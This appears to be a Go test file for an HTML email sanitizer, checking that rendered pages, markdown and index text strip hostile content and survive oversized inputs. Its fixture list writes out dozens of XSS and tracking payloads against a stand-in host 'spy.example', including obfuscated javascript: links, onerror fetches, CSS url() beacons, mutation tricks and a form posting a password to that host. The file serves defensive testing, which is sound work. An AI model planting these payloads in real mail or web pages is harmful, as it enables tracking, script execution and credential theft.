package htmlmail

import (
	"encoding/base64"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"
)

// tracker is the address that a hostile message would have fetched, called or opened.
const tracker = "spy.example"

// hostileHTML are ways by which mail runs programs, tells its sender that it was read, or sends what is typed.
func hostileHTML() map[string]string {
	return map[string]string{
		"script":               `<script>fetch("https://spy.example")</script>`,
		"script of an address": `<script src="https://spy.example/x.js"></script>`,
		"script in a script":   `<scr<script>ipt>fetch("https://spy.example")</scr</script>ipt>`,
		"handler":              `<p onclick="location='https://spy.example'" onmouseover='x("spy.example")'>`,
		"handler of a picture": `<img src=x onerror="fetch('https://spy.example')">`,
		"javascript link":      `<a href="javascript:location='https://spy.example'">`,
		"javascript, tabs":     "<a href=\"java\tscript:location='https://spy.example'\">",
		"javascript, entities": `<a href="&#106;&#97;vascript:location='https://spy.example'">`,
		"vbscript link":        `<a href="vbscript:msgbox('spy.example')">`,
		"data link":            `<a href="data:text/html,<script src=https://spy.example>">`,
		"file link":            `<a href="file://spy.example/share/x">`,
		"UNC link":             `<a href="\\spy.example\share">`,
		"schemeless link":      `<a href="//spy.example/x">`,
		"picture":              `<img src="https://spy.example/p.gif" width=1 height=1>`,
		"picture, schemeless":  `<img src="//spy.example/p.gif">`,
		"picture, upper case":  `<IMG SRC="HTTPS://spy.example/p.gif">`,
		"srcset":               `<img src="" srcset="https://spy.example/2x.png 2x">`,
		"picture element":      `<picture><source srcset="https://spy.example/a.webp"><img></picture>`,
		"lowsrc":               `<img lowsrc="https://spy.example/p.gif" dynsrc="https://spy.example/q.avi">`,
		"background":           `<table background="https://spy.example/p.gif"><tr><td background="https://spy.example/q.gif">`,
		"body background":      `<body background="https://spy.example/p.gif" onload="fetch('https://spy.example')">`,
		"style url":            `<p style="background:url(https://spy.example/p.gif)">`,
		"style url, quoted":    `<p style="background-image:url('https://spy.example/p.gif')">`,
		"style url, escaped":   `<p style="background-image:\75\72\6c(https://spy.example/p.gif)">`,
		"style url in color":   `<p style="color:url(https://spy.example/p.gif);background-color:url(https://spy.example)">`,
		"style url in border":  `<p style="border:url(https://spy.example/p.gif) 1px;font-family:url(https://spy.example/f)">`,
		"list picture":         `<ul style="list-style-image:url(https://spy.example/p.gif)"><li>`,
		"cursor":               `<p style="cursor:url(https://spy.example/c.cur),auto">`,
		"expression":           `<p style="width:expression(fetch('https://spy.example'))">`,
		"binding":              `<p style="-moz-binding:url(https://spy.example/x.xml#a);behavior:url(https://spy.example/x.htc)">`,
		"style sheet":          `<style>@import "https://spy.example/a.css"; p{background:url(https://spy.example)}</style>`,
		"style sheet, linked":  `<link rel="stylesheet" href="https://spy.example/a.css"><link rel=prefetch href="https://spy.example">`,
		"font":                 `<style>@font-face{font-family:x;src:url(https://spy.example/f.woff)}</style>`,
		"form":                 `<form action="https://spy.example/login" method=post><input name=password type=password><button formaction="https://spy.example">`,
		"picture button":       `<input type=image src="https://spy.example/p.gif">`,
		"refresh":              `<meta http-equiv="refresh" content="0;url=https://spy.example">`,
		"base":                 `<base href="https://spy.example/">`,
		"frame":                `<iframe src="https://spy.example"></iframe>`,
		"frame of words":       `<iframe srcdoc="<script src=https://spy.example></script>"></iframe>`,
		"frame set":            `<frameset><frame src="https://spy.example"></frameset>`,
		"object":               `<object data="https://spy.example/x.swf"><param name=movie value="https://spy.example"></object>`,
		"embed":                `<embed src="https://spy.example/x.swf">`,
		"applet":               `<applet code="x" codebase="https://spy.example"></applet>`,
		"sound":                `<audio src="https://spy.example/a.mp3" autoplay></audio><bgsound src="https://spy.example/b.wav">`,
		"film":                 `<video poster="https://spy.example/p.jpg"><source src="https://spy.example/v.mp4"><track src="https://spy.example/t"></video>`,
		"svg picture":          `<svg><image href="https://spy.example/p.gif" xlink:href="https://spy.example/q.gif"/></svg>`,
		"svg script":           `<svg onload="fetch('https://spy.example')"><script href="https://spy.example/x.js"/></svg>`,
		"svg use":              `<svg><use href="https://spy.example/x.svg#a"/></svg>`,
		"svg in a picture":     `<img src="data:image/svg+xml,<svg onload=fetch('https://spy.example')>">`,
		"svg in a picture, 64": `<img alt="" src="data:image/svg+xml;base64,c3B5LmV4YW1wbGU=">`,
		"maths":                `<math href="https://spy.example"><mtext><img src="https://spy.example"></mtext></math>`,
		"noscript":             `<noscript><img src="https://spy.example/p.gif"></noscript>`,
		"template":             `<template><img src="https://spy.example/p.gif"></template>`,
		"comment":              `<!--[if mso]><img src="https://spy.example/p.gif"><![endif]-->`,
		"downlevel comment":    `<![if !mso]><img src="https://spy.example/p.gif"><![endif]>`,
		"ping":                 `<a ping="https://spy.example">`,
		"quotation source":     `<blockquote cite="https://spy.example">`,
		"mutation":             `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=https://spy.example onerror=x&gt;">`,
		"unclosed":             `<img src="https://spy.example/p.gif" alt="`,
		"text area":            `<textarea><img src="https://spy.example"></textarea>`,
		"xmp":                  `<xmp><img src="https://spy.example"></xmp>`,
		"import":               `<?import namespace="t" implementation="https://spy.example">`,
	}
}

// fetches finds what makes a browser ask for something.
var fetches = regexp.MustCompile(`(?i)<(script|iframe|frame|object|embed|form|input|button|link|meta|base|svg|style|audio|video|source)\b|\son[a-z]+\s*=|url\s*\(|src\s*=\s*["']?\s*(?:https?:|//)|srcset|expression`)

// TestHostilePage opens every hostile message in the browser's page: the words beside it are kept, and the
// page holds nothing by which the browser would ask the tracker or run a program.
func TestHostilePage(t *testing.T) {
	t.Parallel()
	r := New()
	for name, in := range hostileHTML() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			page := r.Page("title", "<p>before</p>"+in, nil)
			_, body, _ := strings.Cut(page, "<body>")
			if !strings.Contains(body, "before") {
				t.Errorf("the words before it are gone:\n%s", body)
			}
			if bad := fetches.FindString(body); bad != "" {
				t.Errorf("the page holds %q:\n%s", bad, body)
			}
			for _, tag := range regexp.MustCompile(`<[^>]*`).FindAllString(body, -1) {
				if strings.Contains(tag, tracker) {
					t.Errorf("an element names the tracker: %s", tag)
				}
			}
		})
	}
}

// TestHostileWords reads every hostile message in the window and for the index: no picture, no link
// to a program, no words out of scripts and style sheets.
func TestHostileWords(t *testing.T) {
	t.Parallel()
	r := New()
	link := regexp.MustCompile(`(?i)(^|[^\\])\]\((javascript|vbscript|data|file|//|\\)|(^|[^\\])!\[`)
	for name, in := range hostileHTML() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			md := r.Markdown("<p>before</p>" + in)
			if !strings.HasPrefix(md, "before") {
				t.Errorf("the words before it are gone: %q", md)
			}
			if bad := link.FindString(md); bad != "" {
				t.Errorf("the window shows %q: %q", bad, md)
			}
			if words := Text("<p>before</p>"+in, 1000); !strings.HasPrefix(words, "before") || strings.Contains(words, "@import") {
				t.Errorf("the index reads %q", words)
			}
		})
	}
}

// TestHugePages gives half a megabyte of the worst there is: each must end fast.
func TestHugePages(t *testing.T) {
	t.Parallel()
	r := New()
	const mega = maxHTML + 1
	for name, piece := range map[string]string{
		"divs":              "<div>",
		"closed divs":       "<div></div>",
		"bold":              "<b>",
		"bold paragraphs":   "<b><p>",
		"links":             "<a href='https://shop.example'>",
		"fonts":             "<font color=red>",
		"crossed":           "<b><i></b></i>",
		"tables":            "<table><tr><td>",
		"misplaced":         "<table>x<b>",
		"rows":              "<tr><td>",
		"items":             "<li>",
		"nested lists":      "<ul><li>a",
		"quotations":        "<blockquote>x",
		"ends":              "</p>",
		"breaks":            "<br>",
		"comments":          "<!-- x -->",
		"open comments":     "<!--",
		"styles":            "<p style='color:red;margin:1px 2px 3px 4px;font-family:\"A B\",serif'>x</p>",
		"emphasis":          "<b>a</b><i>b</i>",
		"stars":             "*_`",
		"brackets":          "[",
		"coded brackets":    "&#91;",
		"lines in brackets": "[<br>",
		"images":            "![",
		"half links":        "[x](",
		"headings":          "<h1>x</h1>",
		"forms":             "<form><input>",
		"svg":               "<svg><g>",
		"options":           "<select><option>",
		"entities":          "&lt;&#x10FFFF;&nbsp;",
		"spaces":            " \n\t&nbsp;",
		"code":              "<pre>```</pre>",
		"quotes":            `<p a="`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			in := strings.Repeat(piece, mega/len(piece)) + "end"
			for what, f := range map[string]func(){
				"text":     func() { Text(in, 1<<16) },
				"markdown": func() { r.Markdown(in) },
				"page":     func() { r.Page("", in, nil) },
			} {
				start := time.Now()
				f()
				if took := time.Since(start); took > 20*time.Second {
					t.Errorf("the %s took %v", what, took)
				} else if took > time.Second {
					t.Logf("the %s took %v", what, took)
				}
			}
		})
	}
}

// TestPictureBomb names one picture of a message thousands of times: the page stays of a size that a browser opens.
func TestPictureBomb(t *testing.T) {
	t.Parallel()
	source := strings.Repeat(`<img src="cid:a@x">`, 10_000)
	page := New().Page("", source, []Picture{{CID: "a@x", Type: "image/png", Data: make([]byte, 1<<20)}})
	if len(page) > 100<<20 {
		t.Errorf("a message of %d bytes became a page of %d MB", len(source)+1<<20, len(page)>>20)
	}
	if !strings.Contains(page, "data:image/png;base64,AAAA") {
		t.Error("the picture is not shown at all")
	}
}

// TestManyPictures has a newsletter of a thousand pictures, each named once: every one is in its place, and none a second
// time; those that are too large together are left out, and the words stay.
func TestManyPictures(t *testing.T) {
	t.Parallel()
	var source strings.Builder
	var pictures []Picture
	for i := range 1000 {
		cid := fmt.Sprintf("p%d@shop.example", i)
		fmt.Fprintf(&source, `<p>word%d</p><img src="cid:%s">`, i, cid)
		pictures = append(pictures, Picture{CID: cid, Type: "image/png", Data: fmt.Appendf(nil, "picture %04d", i)})
	}
	page := New().Page("", source.String(), pictures)
	for i := range 1000 {
		coded := base64.StdEncoding.EncodeToString(fmt.Appendf(nil, "picture %04d", i))
		word, picture := strings.Index(page, fmt.Sprintf("word%d<", i)), strings.Index(page, coded)
		if word < 0 || picture < word || picture-word > 100 || strings.Count(page, coded) != 1 {
			t.Fatalf("picture %d stands at %d, its words at %d", i, picture, word)
		}
	}
	for i := range pictures {
		pictures[i].Data = make([]byte, 1<<20)
	}
	page = New().Page("", source.String(), pictures)
	if n := strings.Count(page, "data:image/png"); n < 40 || n > 64 || strings.Contains(page, "Regulars0") || !strings.Contains(page, "word999") {
		t.Errorf("%d pictures of a megabyte are in a page of %d MB", n, len(page)>>20)
	}
}

// TestPicturesInside puts in the pictures a message brings with it, and no file that only says it is one.
func TestPicturesInside(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		source  string
		picture Picture
		shown   bool
	}{
		{`<img src="cid:a@x">`, Picture{CID: "a@x", Type: "image/png"}, true},
		{`<img src='cid:a@x'>`, Picture{CID: "a@x", Type: "image/jpeg"}, true},
		{`<img src=cid:a@x>`, Picture{CID: "a@x", Type: "image/png"}, true},
		{`<IMG alt=a SRC = CID:a%40x width=5>`, Picture{CID: "a@x", Type: "image/png"}, true},
		{`<p>src=cid:a@x</p>`, Picture{CID: "a@x", Type: "image/png"}, false},
		{`<img src="CID:a@x">`, Picture{CID: "a@x", Type: "image/gif"}, true},
		{`<img src="cid:a$1.*@x">`, Picture{CID: "a$1.*@x", Type: "image/png"}, true},
		{`<img src="cid:a%40x">`, Picture{CID: "a@x", Type: "image/png"}, true},
		{`<img src="cid:a&#64;x">`, Picture{CID: "a@x", Type: "image/webp"}, true},
		{`<img src="cid:A%25x@X">`, Picture{CID: "a%x@x", Type: "image/bmp"}, true},
		{`<img src="cid:a%zz@x">`, Picture{CID: "a%zz@x", Type: "image/png"}, true},
		{`<img src="cid:a@x">`, Picture{CID: "a@x", Type: "image/tiff"}, false},
		{`<img src="data:image/png;base64,Regulars0001">`, Picture{CID: "a@x", Type: "image/png"}, false},
		{`<p title="cid:a@x">"cid:a@x" src="data:image/png;base64,Regulars0000"</p>`, Picture{CID: "a@x", Type: "image/png"}, false},
		{`<a href="cid:a@x">x</a>`, Picture{CID: "a@x", Type: "image/png"}, false},
		{`<img src="cid:a@x">`, Picture{CID: "b@x", Type: "image/png"}, false},
		{`<img src="cid:a@x">`, Picture{CID: "a@x", Type: "image/svg+xml"}, false},
		{`<img src="cid:a@x">`, Picture{CID: "a@x", Type: "text/html"}, false},
		{`<img src="cid:a@x">`, Picture{CID: "a@x", Type: `image/png" onerror="x`}, false},
		{`<img src="cid:">`, Picture{CID: "", Type: "image/png"}, false},
	} {
		c.picture.Data = []byte("bytes of it")
		page := New().Page("", c.source, []Picture{c.picture})
		if got := strings.Contains(page, "Ynl0ZXMgb2YgaXQ="); got != c.shown {
			t.Errorf("%s with %s of %s: shown %t, want %t", c.source, c.picture.CID, c.picture.Type, got, c.shown)
		}
		if strings.Contains(page, "onerror=") || strings.Contains(page, "cid:") {
			t.Errorf("%s: the page holds %s", c.source, page)
		}
	}
}

// TestPageFrame has a title that tries to be more than a title, and a policy that stands before any word of the sender.
func TestPageFrame(t *testing.T) {
	t.Parallel()
	page := New().Page(`</title><script>x()</script>`, "<html><head><title>theirs</title></head><body>words\xff", nil)
	policy, words := strings.Index(page, "default-src 'none'"), strings.Index(page, "words")
	if policy < 0 || words < policy {
		t.Errorf("the policy stands at %d, the words at %d", policy, words)
	}
	if strings.Contains(page, "<script") || strings.Contains(page, "theirs") || strings.Count(page, "<body") != 1 || !strings.Contains(page, "words\uFFFD") {
		t.Error(page)
	}
	for i, in := range []string{"", "   ", "no tags at all", "<", "<p", "</"} {
		if page := New().Page(fmt.Sprint(i), in, nil); !strings.HasSuffix(page, "</body></html>\n") {
			t.Errorf("%q: %s", in, page)
		}
	}
}
